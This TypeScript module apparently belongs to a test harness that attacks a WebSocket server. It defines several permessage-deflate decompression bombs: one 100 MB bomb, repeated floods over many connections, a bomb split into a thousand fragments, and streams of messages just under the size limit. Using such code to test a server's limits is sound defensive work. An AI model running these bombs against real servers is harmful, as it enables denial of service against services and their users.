import { constants, deflateRawSync } from 'node:zlib';
import { CONTINUATION, frame, TEXT } from '../wire/websocket.js';
import type { Attack, Attacker } from './attacker.js';

/** The payload of a compressed message: without the four bytes at the end of a flush, RFC 7692, section 7.2.1. */
export function deflated(message: Buffer): Buffer {
  return deflateRawSync(message, { level: 9, finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);
}

/** A frame of 100 kB that becomes a message of 100 MB. */
function bomb(size = 100_000_000): Buffer {
  return frame(TEXT, deflated(Buffer.alloc(size, 'a')), { reserved: 4 });
}

const isCompressed = ({ dialect, compression }: Attacker) => dialect !== undefined && compression;

/** One compressed message that is far longer than `maxLength` when it is inflated. */
export const oneBomb: Attack = {
  name: 'a compressed bomb',
  scenario: 12,
  appliesTo: isCompressed,
  async run(attacker: Attacker) {
    const socket = await attacker.webSocket();
    await attacker.write(socket, bomb());
  },
};

/** The same from many connections at once. */
export const manyBombs: Attack = {
  name: '30 bombs at once, again and again',
  scenario: 12,
  appliesTo: isCompressed,
  async run(attacker: Attacker) {
    const load = bomb(50_000_000);
    while (attacker.goesOn) {
      const sockets = await attacker.webSockets(30);
      await Promise.all(sockets.map((socket) => attacker.write(socket, load)));
      for (const socket of sockets) socket.end();
    }
  },
};

/** A bomb in a thousand fragments. */
export const nestedBomb: Attack = {
  name: 'bombs in fragments',
  scenario: 12,
  appliesTo: isCompressed,
  async run(attacker: Attacker) {
    const payload = deflated(Buffer.alloc(100_000_000, 'a'));
    const size = Math.ceil(payload.length / 1_000);
    const parts: Buffer[] = [];
    for (let at = 0; at < payload.length; at += size) {
      const opcode = at === 0 ? TEXT : CONTINUATION;
      const isLast = at + size >= payload.length;
      parts.push(frame(opcode, payload.subarray(at, at + size), { fin: isLast, reserved: at === 0 ? 4 : 0 }));
    }
    const load = Buffer.concat(parts);
    for (const socket of await attacker.webSockets(10)) await attacker.write(socket, load);
  },
};

/** Messages a little shorter than `maxLength`, which cost the sender 10 kB each. */
export const allowedBombs: Attack = {
  name: 'compressed messages of 10 MB',
  scenario: 12,
  appliesTo: isCompressed,
  async run(attacker: Attacker) {
    const text = attacker.dialect?.wrap(JSON.stringify('a'.repeat(10_000_000))) ?? '';
    const load = frame(TEXT, deflated(Buffer.from(text)), { reserved: 4 });
    const sockets = await attacker.webSockets(5);
    while (attacker.goesOn && attacker.sockets.size > 0) {
      await Promise.all(sockets.map((socket) => attacker.write(socket, load)));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  },
};
